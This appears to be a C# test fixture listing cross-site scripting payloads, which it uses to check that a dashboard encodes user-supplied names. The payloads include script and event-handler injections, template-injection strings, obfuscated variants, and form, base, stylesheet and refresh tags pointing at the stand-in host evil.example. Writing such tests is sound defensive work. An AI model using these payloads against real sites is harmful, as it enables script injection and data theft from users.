namespace PrivateConnect.Dashboard.Tests.Tests;

/// <summary>
/// What would run if somebody wrote it into a page unencoded: ways out of the place where text stands, times things that run.
/// All are short enough for a name of 64 characters.
/// </summary>
internal static class Payloads
{
    // Out of an element's text, an attribute with each quote, a title, a textarea, a script, a comment, an SVG.
    private static readonly string[] s_waysOut = ["", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "</svg>", "\" ", "' "];

    private static readonly string[] s_things =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<form action=//evil.example><button>",
        "<base href=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=0;//evil.example>",
        "<p hx-get=/ hx-trigger=load>",
        "<p data-hx-on:load=alert(1)>",
        "<style>*{display:none}</style>",
        "onmouseover=alert(1) x=",
        "autofocus onfocus=alert(1) x=",
        "javascript:alert(1)",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ];

    /// <summary>Each way out with each thing, and a few of their own kind.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. s_waysOut.SelectMany(way => s_things, (way, thing) => (way + thing).Trim()).Distinct().Where(text => text.Length <= 64),
        "<ScRiPt>alert(1)</sCrIpT>",
        "<<script>alert(1)//<</script>",
        "<img/src=x/onerror=alert(1)>",
        "<svg><script>alert&#40;1&#41;</script>",
        "<math><mtext></mtext><script>alert(1)</script>",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "＜script＞alert(1)＜/script＞",
        "<!--<img src='--><img src=x onerror=alert(1)>",
    ];
}
